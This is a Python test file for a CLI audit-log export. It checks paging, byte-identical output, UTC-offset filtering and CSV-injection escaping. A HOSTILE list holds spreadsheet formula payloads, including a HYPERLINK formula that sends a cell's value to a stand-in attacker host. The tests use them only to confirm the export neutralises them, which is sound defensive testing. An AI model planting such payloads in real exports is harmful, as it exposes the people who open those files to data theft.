"""`squall audit export` streams the log: it reads it a page at a time, oldest first, and prints each
page as it is read, where it read the whole range into one list before printing a line (9.7 s and
474 MB for 200,000 events). What it prints is what it printed before, byte for byte."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
import typer

from bot.cli import audit as audit_cli
from bot.cli import common
from engine import audit as engine_audit
from engine.audit import AuditFilter, audit_page
from engine.audit_sinks import entry
from engine.storage import Store, audit

BASE = datetime(2026, 1, 1, tzinfo=UTC)


@pytest.fixture
def logged(home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    """A config whose database holds 300 audit events of every shape: no actor, source or target,
    text CSV must quote (commas, quotes, newlines), non-ASCII, secrets to mask, and timestamps that
    go back now and then (a clock set back), so id order and time order differ."""
    (home / "data").mkdir(exist_ok=True)
    (home / "config.yml").write_text("database:\n  url: sqlite:///data/squall.db\n")
    monkeypatch.setattr(common._State, "config_path", str(home / "config.yml"))
    store = Store.open(f"sqlite:///{home / 'data' / 'squall.db'}")
    rows = [{"timestamp": BASE + timedelta(minutes=n if n % 17 else n - 40),
             "event": ("chat.execution", "api.key.set", "web.login.failed")[n % 3],
             "actor": None if n % 11 == 0 else f"usér{n}", "source": None if n % 7 == 0 else f"slack:C{n % 5}",
             "target": None if n % 5 == 0 else f'web{n},"x"\nnext line',
             "detail": {"n": n, "password": "hunter2", "nested": {"api_key": "k-1"}, "text": "é ✓ \u2028 , \""}}
            for n in range(300)]
    with store.engine.begin() as conn:
        conn.execute(sa.insert(audit), rows)
    try:
        yield store
    finally:
        store.close()


def _export(*, since: str | None = None, until: str | None = None, form: str = "jsonl") -> str:
    """What `squall audit export` prints, run in this process (so its page size can be set)."""
    out = io.StringIO()
    real, sys.stdout = sys.stdout, out
    try:
        audit_cli.audit_export(since=since, until=until, form=form)
    finally:
        sys.stdout = real
    return out.getvalue()


def _lines(printed: str) -> list[str]:
    """The JSON lines printed (not `splitlines`: a JSON string may hold U+2028, which it splits at)."""
    return printed.split("\n")[:-1]


def _as_before(store: Store, since: datetime | None, until: datetime | None, form: str) -> str:
    """The export as it was made before it streamed: every row read newest first into one list, then
    printed reversed."""
    rows: list[dict[str, Any]] = []
    before = None
    while page := audit_page(store, AuditFilter(since=since, until=until), before=before, limit=1000):
        rows.extend(page)
        before = page[-1]["id"]
    shown = [entry(row) for row in reversed(rows)]
    out = io.StringIO()
    if form == "jsonl":
        out.writelines(json.dumps(one, default=str, ensure_ascii=False) + "\n" for one in shown)
        return out.getvalue()
    writer = csv.writer(out)
    writer.writerow(["time", "event", "actor", "source", "target", "detail", "id"])
    for one in shown:  # none of the fixture's cells starts like a formula: each is printed as it is
        writer.writerow([one["time"], one["event"], one["actor"] or "", one["source"] or "", one["target"] or "",
                         json.dumps(one["detail"], default=str, ensure_ascii=False), one["id"]])
    return out.getvalue()


@pytest.mark.parametrize("form", ["jsonl", "csv"])
@pytest.mark.parametrize(("since", "until"), [
    (None, None),
    ("2026-01-01T01:00:00", "2026-01-01T03:10"),  # no zone: UTC
    ("2026-01-01T03:00+02:00", None),
    (None, "2026-01-01T00:30:00Z"),
    ("2999-01-01", None),  # nothing in range
])
def test_the_export_prints_what_it_printed_before_byte_for_byte(
        logged: Store, monkeypatch: pytest.MonkeyPatch, form: str, since: str | None, until: str | None) -> None:
    """Pages of 7 cross page boundaries dozens of times; the output is the one the whole-list export
    made, for both formats and each kind of range."""
    monkeypatch.setattr(audit_cli, "_PAGE", 7)
    expected = _as_before(logged, audit_cli._moment("--since", since), audit_cli._moment("--until", until), form)
    printed = _export(since=since, until=until, form=form)
    assert printed == expected
    if since is None and until is None:
        assert printed.count("usér299") == 1 and "hunter2" not in printed


def test_the_export_reads_and_prints_a_page_at_a_time(logged: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """With pages of 40, the 300 events are read in 8 reads, oldest first, and each page is printed
    before the next is read: memory holds one page, not the range."""
    monkeypatch.setattr(audit_cli, "_PAGE", 40)
    out = io.StringIO()
    reads: list[tuple[int, int]] = []  # (lines printed when the read began, rows it returned)
    real = engine_audit.audit_forward

    def counted(*args: Any, **kwargs: Any) -> list[dict[str, Any]]:
        page = real(*args, **kwargs)
        reads.append((out.getvalue().count("\n"), len(page)))
        return page

    monkeypatch.setattr(engine_audit, "audit_forward", counted)
    monkeypatch.setattr(sys, "stdout", out)
    audit_cli.audit_export(since=None, until=None, form="jsonl")
    assert reads == [(n * 40, 40) for n in range(7)] + [(280, 20)]
    assert [json.loads(line)["detail"]["n"] for line in _lines(out.getvalue())] == list(range(300))


def test_events_logged_while_the_export_runs_are_left_for_the_next(logged: Store,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """The export is of the log as it stood when it began, as when it read it all at once: events
    logged meanwhile (the service goes on) do not make it longer or keep it going."""
    monkeypatch.setattr(audit_cli, "_PAGE", 50)
    real = engine_audit.audit_forward

    def busy(*args: Any, **kwargs: Any) -> list[dict[str, Any]]:
        logged.audit_add("web.login.failed", "late", "web", None, {})
        return real(*args, **kwargs)

    monkeypatch.setattr(engine_audit, "audit_forward", busy)
    lines = _lines(_export())
    assert len(lines) == 300 and "late" not in {json.loads(line)["actor"] for line in lines}


def test_a_time_with_a_utc_offset_selects_the_instant_it_names(logged: Store) -> None:
    """`--since 2026-01-01T03:00+02:00` is 01:00 UTC, but SQLite compared the stored UTC times with the
    time as written, its zone dropped: a window two hours off. Each spelling of an instant now selects
    the same events; a time that is out of range once in UTC is refused, naming the option."""
    in_utc = _export(since="2026-01-01T01:00:00Z", until="2026-01-01T02:30:00Z")
    times = [json.loads(line)["time"] for line in _lines(in_utc)]
    assert len(times) > 60 and min(times) >= "2026-01-01T01:00:00Z" and max(times) < "2026-01-01T02:30:00Z"
    assert _export(since="2026-01-01T03:00+02:00", until="2026-01-01T01:30:00-01:00") == in_utc
    assert _export(since="2026-01-01T00:00-01:00", until="2026-01-01T08:00+05:30") == in_utc
    with pytest.raises(typer.Exit):
        audit_cli._moment("--since", "0001-01-01T00:00+01:00")  # before year 1 in UTC


def test_the_web_audit_filter_reads_a_utc_offset_as_the_instant_it_names(logged: Store) -> None:
    """The /audit page's `from`/`to` had the CLI's fault: an offset was dropped on SQLite, not converted."""
    from bot.web.audit import audit_filter

    def shown(start: str, end: str) -> list[int]:
        return [row["id"] for row in audit_page(logged, audit_filter({"from": start, "to": end}), limit=1000)]

    in_utc = shown("2026-01-01T01:00", "2026-01-01T02:30")
    assert len(in_utc) > 60
    assert shown("2026-01-01T03:00+02:00", "2026-01-01T01:30:00-01:00") == in_utc


#: Values a stranger chooses (a failed login's user name, an API caller's `source_channel`) that a spreadsheet
#: would run as a formula, each with a cell start OWASP names.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B2,"x")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
           "\n=1+1"]


def test_a_csv_cell_a_stranger_wrote_is_text_not_a_formula(logged: Store) -> None:
    """An auditor opens the CSV export in Excel or LibreOffice: a cell starting with `=`, `+`, `-`, `@`, a tab
    or a line break ran as a formula (CSV injection, OWASP). Each such cell of every text column now starts
    with `'`, the value kept after it; other cells, and the numeric id, are printed as they are."""
    for n, hostile in enumerate(HOSTILE):
        logged.audit_add("web.login.failed", hostile, hostile, hostile, {"case": n})
    with logged.engine.begin() as conn:  # a detail whose JSON starts like a formula: a negative number
        conn.execute(sa.insert(audit), [{"timestamp": BASE, "event": "=cmd", "actor": "ann", "source": "web",
                                         "target": None, "detail": -7}])
    rows = list(csv.reader(io.StringIO(_export(form="csv"), newline="")))
    header, body = rows[0], rows[1:]
    by_case = {json.loads(row[5]).get("case"): row for row in body if row[5].startswith("{")}
    for n, hostile in enumerate(HOSTILE):
        time, event, actor, source, target, detail = by_case[n][:6]
        assert (actor, source, target) == (f"'{hostile}",) * 3, by_case[n]
        assert event == "web.login.failed" and not time.startswith("'") and detail == f'{{"case": {n}}}'
    assert body[-1][1:6] == ["'=cmd", "ann", "web", "", "'-7"]
    ordinary = body[1]  # the fixture's own rows: printed as they were
    assert ordinary[2] == "usér1" and ordinary[3] == "slack:C1" and ordinary[5].startswith('{"n": 1,')
    assert header.index("actor") == 2


def test_the_csv_has_the_ids_of_the_json_export_in_a_last_column(logged: Store) -> None:
    """Every audit entry carries its `id` (a SIEM drops a re-sent event by it), but the CSV had no id column.
    It is a new last column: the six before it are where they were, for readers that go by position."""
    rows = list(csv.reader(io.StringIO(_export(form="csv"), newline="")))
    jsonl = [json.loads(text) for text in _lines(_export())]
    assert rows[0] == ["time", "event", "actor", "source", "target", "detail", "id"]
    assert [int(row[6]) for row in rows[1:]] == [one["id"] for one in jsonl]
    assert len(set(row[6] for row in rows[1:])) == len(jsonl) == 300
    assert [row[:6] for row in rows[1:]] == [[one["time"], one["event"], one["actor"] or "", one["source"] or "",
                                              one["target"] or "", json.dumps(one["detail"], ensure_ascii=False)]
                                             for one in jsonl]
